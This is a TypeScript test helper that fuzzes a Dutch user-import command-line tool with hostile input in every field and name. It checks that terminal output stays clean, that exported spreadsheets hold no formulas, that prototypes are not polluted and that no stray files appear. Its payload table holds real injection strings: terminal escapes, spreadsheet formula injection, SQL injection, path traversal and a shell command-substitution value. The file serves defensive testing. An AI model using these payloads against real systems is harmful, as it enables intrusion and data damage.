/** Texts that want to be more than text, in every field and name, through the real program. */
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { expect } from 'vitest';
import { faultsOf, newDatabase, newFolder, query } from '../support/breakDatabase.js';
import type { Faults } from '../support/breakFaults.js';
import { populationOf, TARGET } from '../support/breakPopulation.js';
import { runProgram, type Ran } from '../support/breakProgram.js';

export const PAYLOADS: Readonly<Record<string, string>> = {
  'clears the screen': '\x1b[2J\x1b[H',
  'colours the screen': '\x1b[31mrood\x1b[0m',
  'names the window': '\x1b]0;gekaapt\x07',
  'writes the clipboard': '\x1b]52;c;Z2VrYWFwdA==\x07',
  'a link': '\x1b]8;;http://x.nl\x1b\\klik\x1b]8;;\x1b\\',
  'asks the terminal to answer': '\x1b[6n\x1b[c\x05',
  '8-bit control characters': 'a\u009b31mrood\u009d0;x\u009c',
  'turns the direction': 'jan\u202Egnp.exe\u2066x\u2069',
  'goes back': 'goed\b\b\b\bkwaad\rweg',
  'NUL bytes': 'a\0b',
  invisible: 'a\u200bb\u00adc\ufeffd\u2060e',
  'line separators': 'a\u2028b\u2029c\x85d',
  'half a surrogate': 'a\ud800b',
  'a formula': "=cmd|' /C calc'!A0",
  'a formula with plus': '+1+1',
  'a formula with minus': '-2+3',
  'a formula with an at sign': '@SUM(1+1)*cmd',
  'a formula behind a tab': '\t=1+1',
  'a link as a formula': '=HYPERLINK("http://x.nl?"&A1,"klik")',
  SQL: "'; drop table users; --",
  'SQL with quotes': '" or ""="',
  'SQL with a backslash': "\\'; delete from runs; --",
  'JSON path': '$.x[0]","y":1',
  'a bound name': ':x ? $1 ?? @p',
  'like patterns': '%_\\%',
  'a path': '../../../../tmp/instroom-gekaapt',
  'an absolute path': '/etc/passwd',
  'a device': 'CON',
  'a template': '$' + '{7*7}{{7*7}}{run}%s%n',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a method': 'toString',
  'a shell': '$(touch /tmp/instroom-gekaapt)`id`;|&',
  'a very long text': 'x'.repeat(5000),
  emoji: '👩‍👩‍👧‍👦'.repeat(5),
  'combining characters': `a${'\u0301'.repeat(300)}`,
};

const FIELDS = [
  'Gebruiker',
  'Mutatiecode',
  'Nieuwe gebruikerscode',
  'Omschrijving',
  'E-mail',
  'UPN',
  'Persoon',
  'Groep',
  'Groep omschrijving',
  'Profit',
  'Voorkeur site',
];

/** Told by a program that is loaded into the real one: names that all objects would have from then on. */
const WATCH = `data:text/javascript,${encodeURIComponent(`
  process.on('exit', () => {
    const added = Object.keys(Object.prototype).concat(Object.keys(Array.prototype));
    if (added.length > 0 || ({}).polluted !== undefined) process.stderr.write('POLLUTED ' + added.join());
  });`)}`;

export const WATCHED = { NODE_OPTIONS: `--import="${WATCH}"` };

/** What may reach a terminal: text, and the ends of lines. */
const UNSAFE = /[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\p{Cf}]/u;

export function expectNoControl({ stdout, stderr }: Ran, isJson: boolean): void {
  for (const said of [stdout, stderr]) {
    const found = UNSAFE.exec(said.replaceAll('\n', ''));
    expect(
      found &&
        `U+${found[0].codePointAt(0)?.toString(16)} at ${said.slice(Math.max(0, found.index - 40), found.index + 40)}`,
    ).toBeNull();
    expect(said).not.toContain('POLLUTED');
    // A text of a program's inside, or of a database.
    expect(said).not.toMatch(/^\s+at .*:\d+:\d+|SQLITE_|TypeError|RangeError|\[object Object\]/mu);
  }
  // One object, one list, or an object on each line.
  if (isJson && stdout !== '') expect(isJsonText(stdout) || stdout.trimEnd().split('\n').every(isJsonText)).toBe(true);
}

function isJsonText(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

export interface HostileSizes {
  readonly payloads: readonly string[];
}

/** Runs the program with the watch inside, and looks at all that it says. */
async function say(words: readonly string[], database: string, cwd: string): Promise<Ran> {
  const ran = await runProgram([...words, '--db', database], { cwd, env: WATCHED });
  expect(ran.signal).toBeNull();
  expect([0, 1, 2, 3, 4, 5, 6], ran.stderr).toContain(ran.status);
  expectNoControl(ran, words.includes('--json') && !words.includes('export'));
  return ran;
}

/** Every payload in every field of files of both kinds, and then all that the program can say of it. */
export async function hostileFields(faults: Faults, { payloads }: HostileSizes): Promise<void> {
  const folder = await newFolder();
  const work = join(folder, 'deep', 'work');
  await mkdir(work, { recursive: true });
  const database = await newDatabase(join(folder, 'hostile.db'), populationOf(3));
  const rowsOf = (names: readonly string[]): string[][] =>
    names.flatMap((name) => FIELDS.map((_, field) => rowWith(field, PAYLOADS[name] ?? '')));
  const csv = join(work, 'hostile.csv');
  await writeFile(
    csv,
    `${[FIELDS, ...rowsOf(payloads.filter((name) => name !== 'NUL bytes'))].map((cells) => cells.map(quoted).join(';')).join('\n')}\n`,
  );
  const xlsx = join(work, 'hostile.xlsx');
  await writeWorkbook(xlsx, rowsOf(payloads));

  let run = 0;
  for (const file of [csv, xlsx]) {
    run += 1;
    const order = ['--env', TARGET, '--type', 'user'];
    await faults.inject(`planned and applied: ${file}`, async () => {
      const planned = await say(['plan', file, ...order], database, work);
      expect(planned.status, planned.stderr).toBe(3);
      for (const words of [
        ['show', String(run), '--rows'],
        ['show', String(run), '--rows', '--json'],
        ['show', String(run), '--json'],
        [
          'apply',
          String(run),
          '--max-creates',
          '100000',
          '--max-rejected',
          '100%',
          '--max-blocks',
          '100',
          '--max-clears',
          '100',
          '--accept-empty-code',
        ],
        ['tokens', String(run)],
      ])
        await say(words, database, work);
      expect(await faultsOf(database)).toEqual([]);
    });
    await faults.inject(`written as files: ${file}`, () => expectEscaped(String(run), file, database, work));
  }
  await faults.inject('what is told of both', async () => {
    for (const words of [['history'], ['history', '--json'], ['env', 'drift'], ['directory', 'export']])
      await say(words, database, work);
  });
  await faults.inject('a text file with a NUL', async () => {
    const binary = join(work, 'binary.csv');
    await writeFile(binary, 'Gebruiker;Omschrijving;E-mail;UPN\n12345.U1;a\0b;;\n');
    expect(await say(['plan', binary, '--env', TARGET, '--type', 'user'], database, work)).toMatchObject({ status: 2 });
  });
  await faults.inject('nothing else was written', async () => {
    expect((await readdir('/tmp')).filter((name) => name.startsWith('instroom-gekaapt'))).toEqual([]);
    expect(await readdir(join(folder, 'deep'))).toEqual(['work']);
  });
}

/** A usual row, with one field of another kind. */
function rowWith(field: number, payload: string): string[] {
  const usual = ['12345.NIEUW', '1', '', 'Nieuw', 'n@voorbeeld.nl', '', '', '', '', 'J', '1043'];
  // A code and a UPN that others have not, so that most rows are done and not rejected.
  if (field !== 0) usual[0] = `12345.${Math.floor(Math.random() * 1e9).toString(36)}`;
  usual[1] = field === 7 || field === 8 ? '3' : field === 2 ? '4' : '1';
  if (field === 8) usual[7] = 'NIEUW';
  usual[field] = payload;
  return usual;
}

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

async function writeWorkbook(path: string, rows: readonly (readonly string[])[]): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('import');
  sheet.addRow(FIELDS);
  // What XML cannot hold is not in a workbook as a character; it is there as `_x001B_`.
  const cell = (text: string): string =>
    text.replace(
      /[\0-\x08\x0b-\x1f\x7f\p{Cs}]/gu,
      (one) => `_x${one.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}_`,
    );
  for (const row of rows) sheet.addRow(row.map(cell));
  await workbook.xlsx.writeFile(path);
}

/** Spreadsheets that are written hold no cell that would be taken for a formula. */
async function expectEscaped(run: string, file: string, database: string, work: string): Promise<void> {
  const extension = file.endsWith('.csv') ? 'csv' : 'xlsx';
  const made = [
    ['report', `report-${extension}.csv`],
    ['report', `report-${extension}.xlsx`],
    ['rejected', `rejected-${extension}.${extension}`],
    ['tokens', `tokens-${extension}.xlsx`],
  ] as const;
  for (const [command, name] of made) {
    const ran = await say([command, run, '-o', join(work, name)], database, work);
    expect(ran.status, ran.stderr).toBe(0);
    await expectNoFormula(join(work, name));
  }
}

async function expectNoFormula(path: string): Promise<void> {
  if (path.endsWith('.csv')) {
    const text = await readFile(path, 'utf8');
    expect(text.match(/(?:^|[;\n])"?(?:[=+\-@\t]|\r(?!\n))[^;\n]{0,20}/gu)).toBeNull();
    return;
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/u);
      }),
    ),
  );
}

/** Payloads as names: of headers, environments, definitions, files, sheets, rows of flags, and of a whole directory. */
export async function hostileNames(faults: Faults, { payloads }: HostileSizes): Promise<void> {
  const folder = await newFolder();
  const work = join(folder, 'deep', 'work');
  await mkdir(work, { recursive: true });
  const database = await newDatabase(join(folder, 'names.db'), populationOf(3));
  const tables = query<{ name: string }>(database, "select name from sqlite_master where type = 'table' order by name");
  const file = join(work, 'plain.csv');
  await writeFile(file, 'Gebruiker;Omschrijving;E-mail;UPN;Extra\n12345.U1;Een;u1@voorbeeld.nl;u1@voorbeeld.nl;x\n');
  const order = ['--env', TARGET, '--type', 'mutation', '--ignore-column', 'Extra'];
  for (const name of payloads) {
    const payload = PAYLOADS[name] ?? '';
    // No program can be given a NUL, or half a character.
    const word = payload.replaceAll('\0', '').replaceAll(/\p{Cs}/gu, '');
    await faults.inject(`as names: ${name}`, async () => {
      const header = join(work, 'header.csv');
      await writeFile(
        header,
        `Gebruiker;Omschrijving;E-mail;UPN;${quoted(payload)}\n12345.U1;Een;u1@voorbeeld.nl;;x\n`,
      );
      const json = join(work, 'directory.json');
      await writeFile(
        json,
        JSON.stringify({
          groups: [{ environment: TARGET, code: payload.slice(0, 20), description: payload.slice(0, 50) }],
        }),
      );
      const words: readonly (readonly string[])[] = [
        ['plan', header, '--env', TARGET, '--type', 'mutation'],
        ['plan', file, ...order, '--map', `Persoon=${word}`],
        ['plan', file, ...order, '--fix', `${word}=${word}`],
        ['definition', 'save', word, '--type', 'mutation', '--fix', `Persoon=${word.slice(0, 15)}`],
        ['definition', 'show', word],
        ['definition', 'export', word, '-o', join(work, 'definition.yaml')],
        ['env', 'set', TARGET, '--name', word],
        ['env', 'list'],
        ['plan', word, '--env', word, '--type', 'user'],
        ['directory', 'import', json],
        ['show', word],
      ];
      // The order matters: what was saved is then shown.
      for (const one of words) await say(one, database, work);
      expect(query(database, "select name from sqlite_master where type = 'table' order by name")).toEqual(tables);
      expect(await faultsOf(database)).toEqual([]);
      expect(await readdir(join(folder, 'deep'))).toEqual(['work']);
    });
    await rm(join(work, 'definition.yaml'), { force: true });
  }
  await faults.inject('all of it, told once more', async () => {
    for (const words of [
      ['definition', 'list'],
      ['definition', 'list', '--json'],
      ['env', 'list', '--json'],
      ['history'],
      ['directory', 'export'],
    ])
      expect((await say(words, database, work)).status).toBe(0);
    expect((await readdir('/tmp')).filter((name) => name.startsWith('instroom-gekaapt'))).toEqual([]);
  });
}
